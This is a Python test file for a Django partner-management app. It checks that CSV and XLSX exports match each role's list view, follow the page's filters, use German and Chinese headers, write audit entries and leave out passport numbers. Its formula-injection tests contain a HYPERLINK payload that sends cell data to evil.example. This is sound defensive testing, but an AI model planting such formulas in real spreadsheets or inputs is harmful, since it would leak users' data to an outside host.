"""Exports: each list as CSV and XLSX with exactly the rows the list page shows for the same filter and role,
safe against formula injection, headed in the reader's language, recorded in the audit log."""

import csv
import datetime
import io
import re
import uuid
from html import unescape

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from partnerhub.core.history import describe
from partnerhub.core.models import AuditEntry
from partnerhub.delegations.models import Meeting, Registration, RegistrationQuestion, Table
from partnerhub.ideas import services as idea_services
from partnerhub.pipeline import services as pipeline_services
from partnerhub.privacy.models import PrivacyNotice
from partnerhub.profiles.models import CooperationProfile
from partnerhub.reports.exports import writers
from tests.factories import OrganisationFactory, PersonFactory
from tests.test_ideas import agency  # noqa: F401 - the fixture
from tests.test_ideas import form_data as idea_form_data
from tests.test_profiles import draft, published

pytestmark = pytest.mark.django_db

ROLES = ["member_a", "member_b", "agency_staff", "partner_staff", "other_staff", "superuser"]


def url(name, language="en", *args, query=""):
    with translation.override(language):
        return reverse(name, args=args) + (f"?{query}" if query else "")


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response.streaming
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode()), "UTF-8 with BOM, so Excel reads Chinese correctly"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_rows(response) -> list[list]:
    assert response.status_code == 200, response.status_code
    body = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    return [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]


def export_links(html: str, name: str = "") -> dict[str, str]:
    """The page's export links (of the list ``name``, else the first), by format: they carry the page's
    own query string."""
    found = {}
    for href, fmt in re.findall(r'href="([^"]*/exports/[^"]*\.(csv|xlsx)[^"]*)"', html):
        if f"/{name}." in href or not name:
            found.setdefault(fmt, unescape(href))
    return found


def column(rows, header) -> list:
    index = rows[0].index(header)
    return [row[index] for row in rows[1:]]


def persona_user(request, name):
    return request.getfixturevalue(name)


# --- organisations -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("role", ROLES)
def test_organisation_export_has_exactly_the_rows_the_directory_shows_to_each_role(
    client, request, world, role
):
    client.force_login(persona_user(request, role))
    html = client.get(url("organisations:directory")).content.decode()
    links = export_links(html)
    names = [o.name for o in (world.public_org, world.private_org, world.shared_org, world.partner_org)]
    for fmt, read in (("csv", csv_rows), ("xlsx", xlsx_rows)):
        exported = column(read(client.get(links[fmt])), "Name in own script")
        assert {n for n in names if n in exported} == {n for n in names if n in html}, (role, fmt)
        assert len(exported) == len(set(exported))


def test_the_export_link_carries_the_directory_filter_and_the_export_applies_it(client, world, agency_staff):
    client.force_login(agency_staff)
    html = client.get(url("organisations:directory"), {"q": "Robotik"}).content.decode()
    links = export_links(html)
    assert "q=Robotik" in links["csv"] and "q=Robotik" in links["xlsx"]
    assert column(csv_rows(client.get(links["csv"])), "Name in own script") == [world.shared_org.name]
    assert column(xlsx_rows(client.get(links["xlsx"])), "Name in own script") == [world.shared_org.name]


def test_htmx_results_carry_export_links_with_the_new_filter(client, world, agency_staff):
    client.force_login(agency_staff)
    html = client.get(url("organisations:directory"), {"q": "Sensorik"}, HTTP_HX_REQUEST="true").content
    assert "q=Sensorik" in export_links(html.decode())["csv"]


def test_anonymous_visitors_are_sent_to_sign_in(client, world):
    response = client.get(url("exports:organisations", "en", "csv"))
    assert response.status_code == 302 and "login" in response["Location"]


def test_an_unknown_format_is_not_found(client, world, agency_staff):
    client.force_login(agency_staff)
    assert client.get("/en/exports/organisations.pdf").status_code == 404


# --- formula injection ----------------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_with_a_formula_character_is_neutralised(start):
    assert writers.neutralised(f"{start}1+1") == f"'{start}1+1"
    assert writers.neutralised("Müller & Söhne") == "Müller & Söhne"


def test_formula_injection_is_neutralised_in_csv_and_written_as_text_in_xlsx(client, world, agency_staff):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    OrganisationFactory(
        name=evil, name_latin=evil, city="@SUM(1+1)", owner_agency=world.home_agency, is_public=True
    )
    client.force_login(agency_staff)
    rows = csv_rows(client.get(url("exports:organisations", "en", "csv")))
    assert "'" + evil in column(rows, "Name in own script")
    assert "'@SUM(1+1)" in column(rows, "City")
    assert not any(cell.startswith(writers.FORMULA_STARTS) for row in rows for cell in row)
    body = b"".join(client.get(url("exports:organisations", "en", "xlsx")).streaming_content)
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == evil]
    assert cells and all(cell.data_type == "s" for cell in cells), "a text cell, never a formula"
    assert b"<f>" not in _sheet_xml(body)


def _sheet_xml(body: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


# --- languages, file names, audit --------------------------------------------------------------------------


def test_headers_are_in_german_and_chinese_and_values_in_the_readers_language(client, world, agency_staff):
    world.public_org.name_translations = {"de": "Öffentliche GmbH", "zh-hans": "公共机械有限公司"}
    world.public_org.save()
    client.force_login(agency_staff)
    de = csv_rows(client.get(url("exports:organisations", "de", "csv")))
    assert {"Art", "Stadt", "Gründungsjahr", "Name in eigener Schrift"} <= set(de[0])
    assert "Öffentliche GmbH" in column(de, "Name")
    zh = xlsx_rows(client.get(url("exports:organisations", "zh-hans", "xlsx")))
    assert "原文名称" in zh[0]
    assert "公共机械有限公司" in [row[0] for row in zh[1:]]


def test_file_name_has_the_list_and_the_date(client, world, agency_staff):
    client.force_login(agency_staff)
    today = timezone.localdate().isoformat()
    for fmt in ("csv", "xlsx"):
        response = client.get(url("exports:organisations", "en", fmt))
        assert f'filename="organisations-{today}.{fmt}"' in response["Content-Disposition"]


def test_each_export_is_recorded_with_the_list_and_the_row_count_and_reads_as_a_sentence(
    client, world, agency_staff
):
    client.force_login(agency_staff)
    rows = csv_rows(client.get(url("exports:organisations", "en", "csv", query="q=Robotik")))
    entry = AuditEntry.objects.get(action="export.downloaded")
    assert entry.actor == agency_staff
    assert entry.data["list"] == "organisations" and entry.data["rows"] == len(rows) - 1 == 1
    assert entry.data["format"] == "CSV" and entry.data["filters"] == "q=Robotik"
    with translation.override("de"):
        assert "hat einen Export mit 1 Zeilen heruntergeladen (CSV)" in describe(entry)
    with translation.override("zh-hans"):
        assert "下载了包含 1 行的导出文件" in describe(entry)


def test_dates_are_iso(client, world, agency_staff):
    client.force_login(agency_staff)
    created = column(csv_rows(client.get(url("exports:organisations", "en", "csv"))), "Created")
    assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2}", value) for value in created)


# --- contact persons ----------------------------------------------------------------------------------------

EXPECTED_PERSONS = {
    # Klein has not agreed to be contacted: in no export. Becker agreed (the factory's default).
    "member_a": set(),  # no contact of the private organisation
    "member_b": set(),
    "agency_staff": {"Becker", "Wagner"},
    "partner_staff": {"Wagner"},  # contacts of organisations shared with them, where they agreed
    "other_staff": set(),
    "superuser": {"Becker", "Wagner"},
}


@pytest.mark.parametrize("role", ROLES)
def test_person_export_lists_only_contacts_who_agreed_and_whom_the_role_sees(client, request, world, role):
    client.force_login(persona_user(request, role))
    links = export_links(client.get(url("organisations:directory")).content.decode(), "persons")
    rows = csv_rows(client.get(links["csv"]))
    assert set(column(rows, "Family name")) == EXPECTED_PERSONS[role]
    assert "Klein" not in str(xlsx_rows(client.get(url("exports:persons", "en", "xlsx"))))


def test_person_export_follows_the_directory_filter(client, world, agency_staff):
    PersonFactory(organisation=world.public_org, family_name="Schmidt", consent="granted")
    client.force_login(agency_staff)
    rows = csv_rows(client.get(url("exports:persons", "en", "csv", query="q=Robotik")))
    assert column(rows, "Family name") == ["Wagner"]


# --- ideas -------------------------------------------------------------------------------------------------


@pytest.fixture
def ideas(world, agency, agency_staff):  # noqa: F811 - the fixture imported above
    made = {}
    for title in ("Alpha Sensorik", "Beta Robotik", "=Gamma Batterie"):
        idea, _ = idea_services.submit_idea(
            agency=agency, data=idea_form_data(world, title=title), language="de", submission_key=uuid.uuid4()
        )
        made[title] = idea_services.confirm_idea(idea.confirmation_token) or idea
    pipeline_services.share_item(made["Beta Robotik"], world.partner_agency, actor=agency_staff)
    return made


@pytest.mark.parametrize("role", ["agency_staff", "partner_staff", "superuser"])
def test_idea_export_has_the_rows_of_the_pipeline_list_for_the_same_filter(client, request, ideas, role):
    client.force_login(persona_user(request, role))
    for query in ("", "q=sensorik", "sort=created_at"):
        html = client.get(
            url("pipeline:list", "en", "ideas") + (f"?{query}" if query else "")
        ).content.decode()
        links = export_links(html)
        shown = [t for t in ideas if t.lstrip("=") in html]
        exported = [t.removeprefix("'") for t in column(csv_rows(client.get(links["csv"])), "Title")]
        assert sorted(exported) == sorted(shown), (role, query)
        assert sorted(column(xlsx_rows(client.get(links["xlsx"])), "Title")) == sorted(shown)
    if role == "partner_staff":
        assert shown == ["Beta Robotik"]


def test_the_pipeline_export_is_for_agency_staff_only(client, ideas, member_a):
    client.force_login(member_a)
    assert client.get(url("exports:ideas", "en", "csv")).status_code == 404


def test_members_export_their_organisations_ideas_as_their_page_lists_them(
    client, world, ideas, member_a, agency_staff
):
    idea = ideas["Alpha Sensorik"]
    idea.organisation = world.private_org
    idea.save()
    client.force_login(member_a)
    html = client.get(url("ideas:mine")).content.decode()
    rows = csv_rows(client.get(export_links(html)["csv"]))
    assert column(rows, "Title") == ["Alpha Sensorik"]


# --- profiles ----------------------------------------------------------------------------------------------


@pytest.fixture
def some_profiles(world, member_a, member_b, agency_staff, partner_staff):
    Visibility = CooperationProfile.Visibility
    home, partner = world.private_org, world.partner_org
    return [
        published(home, member_a, agency_staff, summary={"en": "Public offer"}),
        published(home, member_a, agency_staff, summary={"en": "Agency offer"}, visibility=Visibility.AGENCY),
        draft(home, member_a, summary={"en": "Home draft"}),
        published(partner, member_b, partner_staff, summary={"en": "Partner offer", "de": "Partnerangebot"}),
        draft(partner, member_b, summary={"en": "Partner draft"}, visibility=Visibility.PARTNERS),
    ]


@pytest.mark.parametrize("role", ROLES)
def test_profile_export_has_exactly_the_profiles_the_list_shows(client, request, some_profiles, role):
    client.force_login(persona_user(request, role))
    html = client.get(url("profiles:list")).content.decode()
    links = export_links(html)
    summaries = [str(p.summary) for p in some_profiles]
    shown = {s for s in summaries if s in html}
    assert set(column(csv_rows(client.get(links["csv"])), "Summary")) == shown, role
    assert set(column(xlsx_rows(client.get(links["xlsx"])), "Summary")) == shown, role


def test_profile_export_in_german_has_german_values(client, some_profiles, partner_staff):
    client.force_login(partner_staff)
    rows = csv_rows(client.get(url("exports:profiles", "de", "csv")))
    assert "Partnerangebot" in column(rows, "Kurzbeschreibung")


# --- a trip's registrations and meetings ------------------------------------------------------------------


@pytest.fixture
def trip_people(world, member_a, agency_staff):
    trip = world.delegation
    trip.shared_with.add(world.partner_agency)
    RegistrationQuestion.objects.create(
        delegation=trip, key="passport_number", label={"en": "Passport number"}, kind="text"
    )
    RegistrationQuestion.objects.create(
        delegation=trip, key="diet", label={"en": "Dietary needs", "de": "Ernährung"}, kind="text"
    )
    notice = PrivacyNotice.current() or PrivacyNotice.objects.create(version="1", text={"en": "notice"})

    def registration(family, org, status="confirmed"):
        return Registration.objects.create(
            delegation=trip,
            family_name=family,
            organisation=org,
            organisation_name=org.name,
            email=f"{family.lower()}@example.org",
            status=status,
            waiting_since=timezone.now() if status == "waiting" else None,
            answers={"passport_number": "X1234567Z", "diet": "-vegetarian"},
            privacy_notice=notice,
            consent_given_at=timezone.now(),
        )

    first = registration("Adler", world.private_org)
    second = registration("Brandt", world.partner_org)
    registration("Conrad", world.public_org, status="waiting")
    zone = trip.zone
    day = trip.start_date
    Meeting.objects.create(
        delegation=trip,
        first=first,
        second=second,
        table=Table.objects.create(delegation=trip, name="A1"),
        starts_at=datetime.datetime.combine(day, datetime.time(10), tzinfo=zone),
        ends_at=datetime.datetime.combine(day, datetime.time(10, 30), tzinfo=zone),
    )
    return trip


EXPECTED_REGISTRATIONS = {
    "member_a": {"Adler"},  # their organisation's
    "member_b": {"Brandt"},
    "agency_staff": {"Adler", "Brandt", "Conrad"},
    "partner_staff": {"Adler", "Brandt", "Conrad"},  # the trip is shared with them
    "other_staff": set(),
    "superuser": {"Adler", "Brandt", "Conrad"},
}


@pytest.mark.parametrize("role", ROLES)
def test_registration_export_has_the_rows_of_the_list_and_never_a_passport_number(
    client, request, trip_people, role
):
    client.force_login(persona_user(request, role))
    page = client.get(url("delegations:registration_list", "en", trip_people.slug))
    html = page.content.decode()
    links = export_links(html)
    assert bool(links) == bool(EXPECTED_REGISTRATIONS[role]), "an empty list offers no export"
    for fmt, read in (("csv", csv_rows), ("xlsx", xlsx_rows)):
        rows = read(client.get(links.get(fmt) or url("exports:registrations", "en", trip_people.slug, fmt)))
        assert set(column(rows, "Family name")) == EXPECTED_REGISTRATIONS[role]
        assert {n for n in ("Adler", "Brandt", "Conrad") if n in html} == EXPECTED_REGISTRATIONS[role]
        assert "X1234567Z" not in str(rows) and "Passport number" not in rows[0]
        if EXPECTED_REGISTRATIONS[role]:
            assert set(column(rows, "Dietary needs")) == {"'-vegetarian" if fmt == "csv" else "-vegetarian"}


def test_registration_export_applies_the_lists_status_filter(client, trip_people, agency_staff):
    client.force_login(agency_staff)
    html = client.get(url("delegations:registration_list", "en", trip_people.slug), {"status": "waiting"})
    links = export_links(html.content.decode())
    assert "status=waiting" in links["csv"]
    assert column(csv_rows(client.get(links["csv"])), "Family name") == ["Conrad"]
    entry = AuditEntry.objects.get(action="export.downloaded")
    assert entry.target == trip_people and entry.data["rows"] == 1


def test_meeting_export_for_the_organisers_in_the_trips_local_time(client, trip_people, agency_staff):
    client.force_login(agency_staff)
    html = client.get(url("delegations:meetings_manage", "en", trip_people.slug)).content.decode()
    links = export_links(html)
    rows = csv_rows(client.get(links["csv"]))
    assert len(rows) == 2 and rows[1][2] == "A1"
    local = datetime.datetime.combine(trip_people.start_date, datetime.time(10), tzinfo=trip_people.zone)
    assert rows[1][0] == local.isoformat()
    de = xlsx_rows(client.get(url("exports:meetings", "de", trip_people.slug, "xlsx")))
    assert de[1][3] == "Adler" and de[1][5] == "Brandt"


@pytest.mark.parametrize("role", ["member_a", "partner_staff", "other_staff"])
def test_only_the_organisers_export_the_meetings(client, request, trip_people, role):
    client.force_login(persona_user(request, role))
    assert client.get(url("exports:meetings", "en", trip_people.slug, "csv")).status_code == 404
